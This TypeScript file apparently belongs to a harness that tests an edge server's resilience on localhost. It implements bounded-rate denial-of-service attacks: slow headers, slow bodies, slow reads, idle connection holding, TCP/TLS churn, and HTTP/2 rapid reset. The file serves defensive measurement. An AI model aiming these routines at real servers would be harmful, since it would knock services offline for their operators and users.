import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'

/** An edge with an endpoint on both of its ports, seen from outside. */
export interface Victim {
  readonly httpPort: number
  readonly httpsPort: number
  readonly name: string
}

/** Begins, and calls `count` for each thing that it has done, until the process ends. */
export type Attack = (victim: Victim, count: () => void) => void

const HELD = 200
const IDLE = 500
const SLOW_READERS = 50
const READ_BYTES = 512
const CHURNED_PER_SECOND = 100
const TLS_CHURNED_PER_SECOND = 10
const RESETS_PER_SECOND = 200
const TICK_MS = 50

/** Rates are bounded, so that what is measured is the edge and not who has more of the two cores. */
export const attacks: Readonly<Record<string, Attack>> = {
  'slow heads': (victim, count) =>
    hold(HELD, victim, (socket) => {
      socket.write(`GET / HTTP/1.1\r\nHost: ${victim.name}\r\nX: `)
      eachSecond(socket, () => socket.write('x'), count)
    }),
  'slow bodies': (victim, count) =>
    hold(HELD, victim, (socket) => {
      socket.write(`POST /body HTTP/1.1\r\nHost: ${victim.name}\r\nContent-Length: 1000\r\n\r\n`)
      eachSecond(socket, () => socket.write('x'), count)
    }),
  'slow reads': (victim, count) =>
    hold(SLOW_READERS, victim, (socket) => {
      socket.pause()
      socket.write(`GET /bulk HTTP/1.1\r\nHost: ${victim.name}\r\n\r\n`)
      eachSecond(socket, () => socket.read(READ_BYTES), count)
    }),
  'idle connections': (victim, count) =>
    hold(IDLE, victim, (socket) => {
      count()
      socket.write(`GET / HTTP/1.1\r\nHost: ${victim.name}\r\n\r\n`)
      socket.resume()
    }),
  churn: ({ httpPort, httpsPort, name }, count) => {
    paced(CHURNED_PER_SECOND, () => {
      const socket = connect({ port: httpPort, host: '127.0.0.1' }, () => socket.destroy())
      socket.on('error', () => {}).once('close', count)
    })
    paced(TLS_CHURNED_PER_SECOND, () => {
      const target = { port: httpsPort, host: '127.0.0.1', servername: name, rejectUnauthorized: false }
      const socket = connectTls(target, () => socket.destroy())
      socket.on('error', () => {}).once('close', count)
    })
  },
  'HTTP/2 rapid reset': (victim, count) => {
    let session: ClientHttp2Session | undefined
    paced(RESETS_PER_SECOND, () => {
      // The edge says goodbye to it every now and then.
      if (!session || session.closed || session.destroyed) session = openHttp2(victim)
      session
        .request({ ':path': '/' })
        .on('error', () => {})
        .close(constants.NGHTTP2_CANCEL)
      count()
    })
  },
}

/** Keeps so many connections; another one comes for each that is closed. */
function hold(count: number, victim: Victim, use: (socket: Socket) => void): void {
  const open = (): void => {
    const socket = connect({ port: victim.httpPort, host: '127.0.0.1' }, () => use(socket))
    socket.on('error', () => {}).once('close', () => setTimeout(open, TICK_MS))
  }
  for (let at = 0; at < count; at++) open()
}

function eachSecond(socket: Socket, act: () => void, count: () => void): void {
  const timer = setInterval(() => {
    act()
    count()
  }, 1000)
  socket.once('close', () => clearInterval(timer))
}

function paced(perSecond: number, act: () => void): void {
  const startedAt = performance.now()
  let done = 0
  setInterval(() => {
    const due = ((performance.now() - startedAt) / 1000) * perSecond
    for (; done < due; done++) act()
  }, TICK_MS)
}

function openHttp2({ httpsPort, name }: Victim): ClientHttp2Session {
  const createConnection = (): Socket =>
    connectTls({
      port: httpsPort,
      host: '127.0.0.1',
      servername: name,
      ALPNProtocols: ['h2'],
      rejectUnauthorized: false,
    })
  return connectHttp2(`https://${name}:${httpsPort}`, { createConnection }).on('error', () => {})
}

/** The figures of an attack: what others get right before it, and beside it. */
export const aloneBefore = (attack: string): string => `before ${attack}`
export const beside = (attack: string): string => `beside ${attack}`
